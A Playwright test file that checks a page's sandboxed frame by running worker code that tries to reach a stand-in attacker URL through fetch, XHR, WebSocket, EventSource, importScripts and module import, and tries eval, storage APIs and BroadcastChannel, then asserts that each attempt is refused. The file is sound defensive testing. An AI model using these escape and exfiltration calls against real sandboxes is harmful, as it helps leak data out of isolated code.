import { expect, test } from '@playwright/test';
import { attackerPort, attackerUrl } from '../attacks/powers.ts';
import { loggingServer } from './support/logging-server.ts';
import { runnerInPage } from './support/runner-in-page.ts';

/** A worker that keeps all its powers and tries them: only the policy and the opaque origin of the frame stand in its way. */
const unscrubbedRealm = `
  const tries = {
    fetch: () => fetch('${attackerUrl}/fetch', { mode: 'no-cors' }),
    'fetch of the site': () => fetch('/', { mode: 'no-cors' }),
    xhr: () => { const r = new XMLHttpRequest(); r.open('GET', '${attackerUrl}/xhr', false); r.send(); },
    websocket: () => new Promise((open, refuse) => { const s = new WebSocket('${attackerUrl.replace('http', 'ws')}/ws'); s.onopen = open; s.onerror = refuse; }),
    'event source': () => new Promise((open, refuse) => { const s = new EventSource('${attackerUrl}/events'); s.onopen = open; s.onerror = refuse; }),
    importScripts: () => importScripts('${attackerUrl}/script'),
    'import of a module': () => import('${attackerUrl}/module'),
    'import of a data module': () => import('data:text/javascript,1'),
    'nested data worker': () => new Promise((open, refuse) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = open; w.onerror = refuse; }),
    eval: () => (0, eval)('1'),
    Function: () => Function('return 1')(),
    indexedDB: () => new Promise((open, refuse) => { const r = indexedDB.open('attack'); r.onsuccess = open; r.onerror = refuse; }),
    caches: () => caches.open('attack'),
    'origin private files': () => navigator.storage.getDirectory(),
    locks: () => navigator.locks.request('attack', () => {}),
  };
  onmessage = async ({ data: { out } }) => {
    const tried = {};
    for (const [name, act] of Object.entries(tries)) {
      const late = new Promise((resolve) => setTimeout(resolve, 500, 'refused by silence'));
      try { tried[name] = await Promise.race([Promise.resolve(act()).then(() => 'GOT THROUGH', (e) => 'refused ' + e), late]); }
      catch (e) { tried[name] = (e instanceof ReferenceError || e instanceof TypeError ? 'absent ' : 'refused ') + e; }
    }
    new BroadcastChannel('attack').postMessage('here');
    out.postMessage({ type: 'tried', tried });
    out.postMessage({ type: 'end', runs: 0 });
    postMessage('finished');
  };
  postMessage('ready');
`;

test('code that got past the scrubbing would still find the frame shut', async ({ page }) => {
  const attacker = await loggingServer(attackerPort);
  try {
    const runner = await runnerInPage(page, '/exercises/fan-out-a-page/');
    const heard = page.evaluate(
      () => new Promise((resolve) => (new BroadcastChannel('attack').onmessage = resolve)).then(() => 'heard') as Promise<string>,
    );
    heard.catch(() => {});
    const { messages } = await runner.execute(unscrubbedRealm, '');
    const { tried } = messages[0] as unknown as { tried: Record<string, string> };
    for (const [name, outcome] of Object.entries(tried)) expect(`${name}: ${outcome}`).toMatch(/refused|absent/);
    expect(Object.keys(tried).length).toBeGreaterThan(10);
    expect(await Promise.race([heard, page.waitForTimeout(200).then(() => 'silence')])).toBe('silence');
    await fetch(`${attacker.url}/ourselves`);
    expect(attacker.seen).toEqual(['GET /ourselves']);
  } finally {
    await attacker.close();
  }
});
